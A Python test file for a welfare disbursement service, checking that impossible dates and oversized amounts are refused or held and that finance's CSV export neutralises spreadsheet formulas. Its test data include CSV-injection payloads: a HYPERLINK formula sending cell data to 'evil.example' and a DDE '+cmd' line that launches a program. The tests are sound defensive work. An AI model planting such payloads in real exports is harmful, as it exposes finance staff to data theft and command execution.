"""Bounded input at disbursement's door and in what it sends finance (issue 17).

- Finding 8: finance's `paid_at` in year 1 or 9999 was a database error and a 500; now a 422 naming it.
- Finding 9: one amount no program could pay, stored in the ledger (an import of "999999999999999.99" before the
  entry checks), made every later roster of its county a 500. Such an entitlement is held, visibly, and the rest of
  the county is paid; one-off batches and collections are held to the ceilings at entry.
- Finding 10: payee names like `=HYPERLINK(...)` reached `lines.csv` unchanged. Every text cell that could start a
  formula gets a leading `'`, whatever is in the ledger; the JSON pages show the data as it is.
"""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import date
from typing import Any

import pytest
from sqlalchemy import func, select, update

from services.disbursement.accounts.models import BankAccount
from services.disbursement.entitlements.models import Entitlement, ScheduleSegment
from services.disbursement.rosters.models import OneOffBatch, RosterLine
from tests.disbursement.support import (
    Broker,
    DisbursementApi,
    Household,
    change,
    entitled,
    new_county,
    officer,
    paid,
)
from tests.disbursement.test_recoveries import RECOVERIES, order, orders, reduced

BASE = "/api/v1/disbursement"
IMPOSSIBLE_INSTANTS = ("0001-01-01T00:00:00+08:00", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59-12:00")
# 999,999,999,999,999.99: the figure of the finding, the largest an amount string may be.
FINDING_FEN = 99_999_999_999_999_999


def _locs(reply: Any) -> list[list[Any]]:
    return [e["loc"] for e in reply.json()["errors"]]


async def _line_states(api: DisbursementApi, roster_id: str) -> dict[str, tuple[str, str | None]]:
    async with api.db.sessions() as s:
        rows = (await s.scalars(select(RosterLine).where(RosterLine.roster_id == roster_id))).all()
    return {r.line_id: (r.status, r.paid_at.isoformat() if r.paid_at else None) for r in rows}


# ---- finding 8: paid_at ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("paid_at", IMPOSSIBLE_INSTANTS)
async def test_paid_at_in_year_1_or_9999_is_a_422_and_nothing_is_applied(
    api: DisbursementApi, broker: Broker, paid_at: str
) -> None:
    county = new_county()
    for amount in ("100.00", "200.00"):
        await entitled(broker, county, amount=amount)
    roster = await api.submitted(county, "2026-12")
    a, b = await api.finance_lines(roster["roster_id"])
    before = await _line_states(api, roster["roster_id"])
    events = len(await api.outbox_events())

    reply = await api.report(roster["roster_id"], [paid(a), {**paid(b), "paid_at": paid_at}])

    assert reply.status_code == 422, reply.text
    assert reply.headers["content-type"].startswith("application/problem+json")
    assert _locs(reply) == [["body", "results", 1, "paid_at"]]
    assert await _line_states(api, roster["roster_id"]) == before
    assert len(await api.outbox_events()) == events
    status = await api.get(f"{BASE}/rosters/{roster['roster_id']}", officer(county))
    assert (status.json()["status"], status.json()["paid_lines"]) == ("submitted", 0)
    # The bounds a record can have are accepted.
    edges = [{**paid(a), "paid_at": "1970-01-01T00:00:00Z"}, {**paid(b), "paid_at": "2099-12-31T23:59:59+08:00"}]
    assert (await api.report(roster["roster_id"], edges)).json() == {"accepted": 2, "unchanged": 0}


async def test_a_roster_or_batch_for_a_month_in_year_1_or_9999_is_a_422_and_stores_nothing(
    api: DisbursementApi, broker: Broker
) -> None:
    county = new_county()
    await entitled(broker, county)
    batch = {"name": "价格临时补贴", "program": "dibao", "region_prefix": county, "basis": "per_household"}
    for month in ("0001-01", "9999-12"):
        roster = await api.post(f"{BASE}/rosters", officer(county), {"region_code": county, "period": month})
        assert _locs(roster) == [["body", "period"]]
        one_off = await api.post(
            f"{BASE}/one-off-batches", officer(county), {**batch, "period": month, "amount": "1.00"}
        )
        assert _locs(one_off) == [["body", "period"]]
    listed = await api.get(f"{BASE}/rosters", officer(county), {"region_code": county})
    assert listed.json()["items"] == []
    # A 9999-12 roster stood before every later month's: December is built as usual.
    assert (await api.build(county, "2026-12"))["line_count"] == 1


# ---- finding 9: amounts at entry -------------------------------------------------------------------------------


async def test_a_one_off_batch_above_the_ceiling_is_refused_and_stores_nothing(api: DisbursementApi) -> None:
    county = new_county()
    base = {"name": "价格临时补贴", "program": "dibao", "region_prefix": county, "period": "2026-12"}
    for basis, amount in (
        ("per_household", "999999999999999.99"),
        ("per_household", "50000.01"),  # dibao pays a household at most 50,000.00 a month
        ("per_member", "20000.01"),  # no program pays one person more than 20,000.00
    ):
        reply = await api.post(f"{BASE}/one-off-batches", officer(county), {**base, "basis": basis, "amount": amount})
        assert (reply.status_code, reply.json()["code"]) == (422, "amount_above_ceiling"), reply.text
        assert _locs(reply) == [["body", "amount"]]
    async with api.db.sessions() as s:
        assert await s.scalar(select(func.count()).where(OneOffBatch.region_prefix == county)) == 0


async def test_a_collection_above_the_ceiling_or_on_an_impossible_day_changes_nothing(
    api: DisbursementApi, broker: Broker
) -> None:
    _, household = await reduced(api, broker, "1000.00", "400.00")
    [recovery] = await orders(api, household)
    path = f"{RECOVERIES}/{recovery['recovery_id']}/collections"
    huge = await api.post(
        path, officer(household.county), {"amount": "999999999999999.99", "received_on": "2026-12-01"}
    )
    assert (huge.status_code, huge.json()["code"]) == (422, "amount_above_ceiling"), huge.text
    assert _locs(huge) == [["body", "amount"]]
    for day in ("0001-01-01", "2099-12-31", "9999-12-31"):
        reply = await api.post(path, officer(household.county), {"amount": "1.00", "received_on": day})
        assert reply.status_code == 422, reply.text
        assert _locs(reply) == [["body", "received_on"]]
    after = await order(api, household, recovery["recovery_id"])
    assert (after["collected"], after["outstanding"], after["status"]) == ("0.00", "600.00", "open")


# ---- finding 9: a bad amount already in the ledger -------------------------------------------------------------


async def _amount_holds(api: DisbursementApi, h: Household) -> list[dict[str, Any]]:
    reply = await api.get(f"{BASE}/holds", officer(h.county), {"region_code": h.county, "kind": "amount"})
    assert reply.status_code == 200, reply.text
    return [x for x in reply.json()["items"] if x["household_id"] == h.household_id]


async def test_a_bad_amount_in_the_ledger_is_held_and_the_rest_of_the_county_is_paid(
    api: DisbursementApi, broker: Broker
) -> None:
    county = new_county()
    bad = await entitled(broker, county, amount="560.00")
    good = [await entitled(broker, county, amount=a) for a in ("300.00", "700.00")]
    # Written before amounts were checked at entry: straight into the ledger, as an import of the finding left it.
    async with api.db.sessions.begin() as s:
        await s.execute(
            update(ScheduleSegment)
            .where(ScheduleSegment.entitlement_id == bad.entitlement_id)
            .values(due_fen=FINDING_FEN)
        )

    roster = await api.build(county, "2026-12")

    assert roster["held"] == {"amount": 1}
    lines = await api.staff_lines(roster)
    assert sorted(line["household_id"] for line in lines) == sorted(h.household_id for h in good)
    assert roster["total_amount"] == "1000.00"
    [hold] = await _amount_holds(api, bad)
    assert (hold["program"], hold["created_by"], hold["released_at"]) == ("dibao", "disbursement", None)
    assert "amount above the ceiling" in hold["reason"]
    # The county cannot wave it through; the roster goes to finance without it.
    refused = await api.post(f"{BASE}/holds/{hold['hold_id']}/release", officer(county), {"reason": "核实无误"})
    assert (refused.status_code, refused.json()["code"]) == (409, "amount_hold")
    await api.act(roster, "lock")
    submitted = await api.act(roster, "submit")
    assert len(await api.finance_lines(submitted["roster_id"])) == 2

    # Casework sends the amount again, one dibao can pay: the hold ends, and December is paid in January.
    api.clock.set_day(date(2027, 1, 2))
    await change(broker, bad, amount="560.00")
    [released] = [h for h in (await api.household(bad))["holds"] if h["kind"] == "amount"]
    assert released["released_by"] == "disbursement"
    january = await api.build(county, "2027-01")
    assert january["held"] == {}
    mine = next(line for line in await api.staff_lines(january) if line["household_id"] == bad.household_id)
    assert [(i["kind"], i["amount"]) for i in mine["items"]] == [("regular", "560.00"), ("arrears", "560.00")]


async def test_an_amount_above_the_ceiling_from_an_event_is_held_at_once(api: DisbursementApi, broker: Broker) -> None:
    county = new_county()
    # 60,000.00 a month is a valid amount string, but more than dibao pays any household (50,000.00).
    above = await entitled(broker, county, amount="60000.00")
    await entitled(broker, county, amount="300.00")
    [hold] = await _amount_holds(api, above)
    assert hold["released_at"] is None
    roster = await api.build(county, "2026-12")
    assert (roster["held"], roster["total_amount"], roster["line_count"]) == ({"amount": 1}, "300.00", 1)


# ---- finding 10: formulas in finance's CSV ---------------------------------------------------------------------

FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1,2",  # quoted for its comma: the quote must not hide the formula
)


async def test_payee_names_that_would_be_formulas_are_neutralised_in_the_csv(
    api: DisbursementApi, broker: Broker
) -> None:
    county = new_county()
    households = [await entitled(broker, county, amount=f"{300 + i}.00") for i in range(len(FORMULA_NAMES) + 1)]
    plain = households[-1]
    # Written straight into the ledger, as no entry would let them in now.
    async with api.db.sessions.begin() as s:
        for h, name in zip(households, FORMULA_NAMES, strict=False):
            await s.execute(
                update(Entitlement).where(Entitlement.household_id == h.household_id).values(payee_name=name)
            )
    roster = await api.submitted(county, "2026-12")

    reply = await api.finance_csv(roster["roster_id"])

    assert reply.status_code == 200, reply.text
    body = reply.content
    assert roster["checksum"] == "sha256:" + hashlib.sha256(body).hexdigest()
    rows = {r["household_id"]: r for r in csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""))}
    for h, name in zip(households, FORMULA_NAMES, strict=False):
        assert rows[h.household_id]["payee_name"] == "'" + name
    assert rows[plain.household_id]["payee_name"] == "王五"
    # No cell of the file begins with a formula character, whatever the column.
    for row in rows.values():
        for column, cell in row.items():
            if column not in ("line_no", "amount"):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    # The JSON pages show the names as they are; the identity and account numbers are the same in both.
    lines = {line["household_id"]: line for line in await api.finance_lines(roster["roster_id"])}
    for h, name in zip(households, FORMULA_NAMES, strict=False):
        assert lines[h.household_id]["payee_name"] == name
    for household_id, line in lines.items():
        assert (rows[household_id]["payee_id_number"], rows[household_id]["account_no"]) == (
            line["payee_id_number"],
            line["account_no"],
        )


async def test_an_account_fix_naming_a_formula_is_refused_and_the_account_unchanged(
    api: DisbursementApi, broker: Broker
) -> None:
    county = new_county()
    h = await entitled(broker, county)
    path = f"{BASE}/households/{h.household_id}/bank-account"
    good = {"bank_code": "ABC", "holder_name": "王五", "account_no": "6222020000000012345", "reason": "新卡"}
    for body, loc in (
        ({**good, "holder_name": '=HYPERLINK("x")'}, ["body", "holder_name"]),
        ({**good, "holder_name": "@SUM(1+1)"}, ["body", "holder_name"]),
        ({**good, "bank_code": "=1+1"}, ["body", "bank_code"]),
    ):
        reply = await api.put(path, officer(county), body)
        assert reply.status_code == 422, reply.text
        assert _locs(reply) == [loc]
    async with api.db.sessions() as s:
        account = await s.get(BankAccount, h.household_id)
    assert account is not None
    assert (account.bank_code, account.holder_name, account.origin) == ("ICBC", "王五", "casework")
